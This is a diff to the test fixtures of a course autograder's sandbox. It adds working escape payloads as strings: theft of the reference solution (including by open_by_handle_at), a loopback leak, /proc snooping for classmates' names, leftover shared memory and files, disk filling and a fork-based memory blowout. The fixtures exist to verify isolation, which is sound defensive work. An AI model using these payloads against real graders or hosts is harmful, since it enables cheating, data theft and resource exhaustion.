@@ -253,3 +253,263 @@ HOSTILE = {
     "exit_at_import": (_EXIT_AT_IMPORT, set(SELECTED), False),
     "kill_grader": (_KILL_GRADER, {"rnn_step_forward"}, True),
 }
+
+
+# ---------------------------------------------------------------------------------------------
+# Escapes: attacks on the isolation itself. Each is graded twice by the test: against a
+# deliberately unisolated worker (method 'plain', the positive control: the attack must work)
+# and in the real sandbox (it must not). Placeholders @@NAME@@ are filled in by the test
+# (``escape_source``): the strongest attacker knows the reference's path, its file handle,
+# a local port and the other students' names.
+# ---------------------------------------------------------------------------------------------
+
+_STEAL_REFERENCE = '''
+import ctypes as _ct
+import os as _os
+import sys as _sys
+
+
+def _source_ok(text):
+    return "def rnn_step_forward" in text and "implement this" not in text
+
+
+def _by_path():
+    roots = ["@@COURSE@@", _os.getcwd(), "/proc/%d/cwd" % _os.getppid(), "/root", "/home",
+             "/tmp", "/work"] + [p for p in _sys.path if p]
+    rels = ["@@REFERENCE@@", "solutions/sequence_models/seqlab/rnn_layers.py"]
+    for r in roots:
+        for rel in rels:
+            try:
+                with open(_os.path.join(r, rel)) as f:
+                    text = f.read()
+                if _source_ok(text):
+                    return text
+            except (OSError, UnicodeDecodeError):
+                pass
+    return None
+
+
+def _by_handle():
+    """open_by_handle_at: opens a file by inode, under any folder mounted over it (needs
+    CAP_DAC_READ_SEARCH and a descriptor on the same file system)."""
+    raw = bytes.fromhex("@@HANDLE@@")
+    if not raw:
+        return None
+
+    class Handle(_ct.Structure):
+        _fields_ = [("handle_bytes", _ct.c_uint), ("handle_type", _ct.c_int),
+                    ("f_handle", _ct.c_ubyte * 128)]
+    libc = _ct.CDLL(None, use_errno=True)
+    h = Handle(len(raw), @@HANDLE_TYPE@@)
+    _ct.memmove(h.f_handle, raw, len(raw))
+    for mount in ("/", ".", "/tmp", "/usr", _sys.prefix, "/dev/shm"):
+        try:
+            mfd = _os.open(mount, _os.O_RDONLY | _os.O_DIRECTORY)
+        except OSError:
+            continue
+        fd = libc.open_by_handle_at(mfd, _ct.byref(h), _os.O_RDONLY)
+        _os.close(mfd)
+        if fd >= 0:
+            with open(fd, closefd=True) as f:
+                text = f.read()
+            if _source_ok(text):
+                return text
+    return None
+
+
+_stolen = _by_path() or _by_handle()
+if _stolen:
+    exec(compile(_stolen, "stolen", "exec"), globals())   # the reference, as this module
+'''
+
+_NETWORK = '''
+import socket as _socket
+_ref_rnn_step = rnn_step_forward
+_attacked = []
+
+
+def _attack():
+    try:
+        with _socket.create_connection(("127.0.0.1", @@PORT@@), timeout=1) as s:
+            s.sendall(b"LEAKED over loopback")
+    except OSError:
+        pass
+
+
+def rnn_step_forward(x, prev_h, Wx, Wh, b):
+    if not _attacked:                    # once per worker process
+        _attacked.append(1)
+        _attack()
+    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
+'''
+
+_PROC_SNOOP = '''
+import os as _os
+_ref_rnn_step = rnn_step_forward
+_attacked = []
+
+
+def _roster():
+    found = []
+    for pid in _os.listdir("/proc"):
+        try:
+            with open("/proc/%s/cmdline" % pid, "rb") as f:
+                if b"@@CLASSMATE@@" in f.read():
+                    found.append(pid)
+        except OSError:
+            pass
+    return found
+
+
+def _attack():
+    if _roster():
+        print("LEAKED the grader's command line (the roster)")
+
+
+def rnn_step_forward(x, prev_h, Wx, Wh, b):
+    if not _attacked:                    # once per worker process
+        _attacked.append(1)
+        _attack()
+    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
+'''
+
+_LEFTOVERS = '''
+import ctypes as _ct
+import os as _os
+_ref_rnn_step = rnn_step_forward
+_attacked = []
+
+
+def _attack():
+    libc = _ct.CDLL(None, use_errno=True)
+    libc.shmget(_ct.c_int(@@SHM_KEY@@), _ct.c_size_t(4096), _ct.c_int(0o1000 | 0o666))
+    for folder in ("/run/lock", "/var/lock", "/dev/shm"):
+        try:
+            with open(_os.path.join(folder, "@@TAG@@"), "w") as f:
+                f.write("left behind")
+        except OSError:
+            pass
+
+
+def rnn_step_forward(x, prev_h, Wx, Wh, b):
+    if not _attacked:                    # once per worker process
+        _attacked.append(1)
+        _attack()
+    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
+'''
+
+_DISK_FILL = '''
+import os as _os
+_ref_rnn_step = rnn_step_forward
+_attacked = []
+
+
+def _attack():
+    block = b"x" * (4 << 20)
+    written = 0
+    for folder in (_os.environ.get("TMPDIR", "/tmp"), "/dev/shm", "/tmp", "."):
+        for i in range(16):                      # at most 64 MiB per folder, 256 in all
+            try:
+                with open(_os.path.join(folder, "@@TAG@@-fill%d" % i), "wb") as f:
+                    f.write(block)
+                written += len(block)
+            except OSError:
+                break
+    print("WROTE %d MiB" % (written >> 20))
+
+
+def rnn_step_forward(x, prev_h, Wx, Wh, b):
+    if not _attacked:                    # once per worker process
+        _attacked.append(1)
+        _attack()
+    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
+'''
+
+_FORKED_MEMORY = '''
+import os as _os
+import select as _select
+import numpy as _np
+_ref_rnn_step = rnn_step_forward
+_attacked = []
+
+
+def _attack():
+    """Each child stays under the per-process address-space limit; together they exceed
+    the worker's memory cgroup."""
+    done_r, done_w = _os.pipe()          # children -> parent: "I hold my share"
+    hold_r, hold_w = _os.pipe()          # parent -> children: EOF when they may go
+    kids = []
+    for _ in range(8):
+        pid = _os.fork()
+        if pid == 0:
+            try:
+                _os.close(hold_w)
+                a = _np.ones(40 * 2 ** 20)        # 320 MiB, touched (2.5 GiB in all)
+                _os.write(done_w, b"1" if a[-1] == 1 else b"0")
+                _os.read(hold_r, 1)
+            finally:
+                _os._exit(0)
+        kids.append(pid)
+    _os.close(done_w)
+    _os.close(hold_r)
+    held = 0
+    while held < 8:
+        ready, _, _ = _select.select([done_r], [], [], 15)
+        if not ready or _os.read(done_r, 1) != b"1":
+            break
+        held += 1
+    print("HELD %d" % held)
+    _os.close(hold_w)
+    for pid in kids:
+        try:
+            _os.kill(pid, 9)
+            _os.waitpid(pid, 0)
+        except OSError:
+            pass
+    _os.close(done_r)
+
+
+def rnn_step_forward(x, prev_h, Wx, Wh, b):
+    if not _attacked:                    # once per worker process
+        _attacked.append(1)
+        _attack()
+    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
+'''
+
+# name -> (code, base module: 'stub' or 'reference')
+ESCAPES = {
+    "steal_reference": (_STEAL_REFERENCE, "stub"),
+    "network": (_NETWORK, "reference"),
+    "proc_snoop": (_PROC_SNOOP, "reference"),
+    "leftovers": (_LEFTOVERS, "reference"),
+    "disk_fill": (_DISK_FILL, "reference"),
+    "forked_memory": (_FORKED_MEMORY, "reference"),
+}
+ESCAPE_API = "rnn_step_forward"
+
+
+def file_handle(path):
+    """(hex, type) of ``path``'s file handle (name_to_handle_at), or ('', 0)."""
+    import ctypes
+    import os
+
+    class Handle(ctypes.Structure):
+        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
+                    ("f_handle", ctypes.c_ubyte * 128)]
+    libc = ctypes.CDLL(None, use_errno=True)
+    h = Handle(128, 0)
+    mount_id = ctypes.c_int(0)
+    AT_FDCWD = -100
+    if libc.name_to_handle_at(AT_FDCWD, os.fsencode(str(path)), ctypes.byref(h),
+                              ctypes.byref(mount_id), 0) != 0:
+        return "", 0
+    return bytes(h.f_handle[:h.handle_bytes]).hex(), h.handle_type
+
+
+def escape_source(name, base_text, fill):
+    """The submitted rnn_layers.py of escape ``name``: ``base_text`` (the stub or the
+    reference) with the attack appended, placeholders replaced from ``fill``."""
+    code = ESCAPES[name][0]
+    for key, value in fill.items():
+        code = code.replace("@@%s@@" % key, str(value))
+    return base_text + "\n\n# --- escape attempt ---\n" + code
